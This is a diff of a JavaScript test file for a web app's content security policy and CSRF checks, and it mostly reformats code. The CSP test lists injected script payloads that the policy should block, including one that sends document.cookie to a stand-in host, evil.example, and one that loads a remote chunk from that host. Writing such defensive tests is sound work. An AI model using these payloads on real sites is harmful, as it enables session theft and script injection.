@@ -19,7 +19,8 @@ describe("content security policy", () => {
   });
 
   it("allows a cached page's framework scripts by their hashes, never by 'unsafe-inline' or a shared nonce", () => {
-    const turbopack = '(globalThis["TURBOPACK"] || (globalThis["TURBOPACK"] = [])).push({"otherChunks":["static/chunks/30getrsh8qyka.js"],"runtimeModuleIds":[494553]});';
+    const turbopack =
+      '(globalThis["TURBOPACK"] || (globalThis["TURBOPACK"] = [])).push({"otherChunks":["static/chunks/30getrsh8qyka.js"],"runtimeModuleIds":[494553]});';
     const boot = "(self.__next_f=self.__next_f||[]).push([0])";
     const chunk = 'self.__next_f.push([1,"1:\\"$Sreact.fragment\\"\\n"])';
     const html = `<html><head><script src="/_next/static/a.js" async=""></script><script id="_R_">${turbopack}</script><script>${boot}</script></head>
@@ -41,7 +42,7 @@ describe("content security policy", () => {
     const injected = [
       "alert(document.cookie)",
       'self.__next_f.push([1,"x"]);fetch("//evil.example/"+document.cookie)',
-      '(self.__next_f=self.__next_f||[]).push([0]);alert(1)',
+      "(self.__next_f=self.__next_f||[]).push([0]);alert(1)",
       '(globalThis["TURBOPACK"] || (globalThis["TURBOPACK"] = [])).push({"otherChunks":["//evil.example/x.js"],"runtimeModuleIds":[1]});',
     ];
     for (const text of injected) {
@@ -92,7 +93,12 @@ describe("cross-site request forgery", () => {
     expect(isForeignMutation(spoofed, 0)).toBe(true);
     expect(isForeignPagePost({ ...spoofed, method: "POST" }, 0)).toBe(true);
     // Behind nginx (one trusted hop) the proxy sets it: the public host, not the upstream's.
-    const proxied = req("POST", { "x-sigap-request": "1", origin: "https://sigap.example", "x-forwarded-host": "sigap.example", host: "127.0.0.1:3000" });
+    const proxied = req("POST", {
+      "x-sigap-request": "1",
+      origin: "https://sigap.example",
+      "x-forwarded-host": "sigap.example",
+      host: "127.0.0.1:3000",
+    });
     expect(isForeignMutation(proxied, 1)).toBe(false);
     expect(isForeignMutation(proxied, 0)).toBe(true);
   });
